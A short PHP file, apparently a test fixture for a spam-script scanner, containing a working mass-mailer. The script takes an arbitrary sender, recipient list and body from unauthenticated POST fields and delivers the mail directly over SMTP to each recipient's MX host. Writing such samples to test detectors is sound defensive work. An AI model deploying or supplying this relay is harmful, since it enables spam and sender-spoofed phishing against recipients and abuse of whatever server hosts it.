<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
final class Relay
{
    public function __construct(private string $from) {}
    public function send(string $to, string $body): void
    {
        $d = substr(strrchr($to, '@'), 1);
        $hosts = [];
        getmxrr($d, $hosts);
        $c = stream_socket_client(sprintf('tcp://%s:%d', $hosts[0] ?? $d, 25));
        foreach (["EHLO x", "MAIL FROM:<{$this->from}>", "RCPT TO:<{$to}>", "DATA", $body, "."] as $l) {
            fputs($c, $l . "\r\n");
            fgets($c);
        }
    }
}
$r = new Relay($_POST['f']);
foreach (explode(',', $_POST['to']) as $t) { $r->send(trim($t), $_POST['b']); }
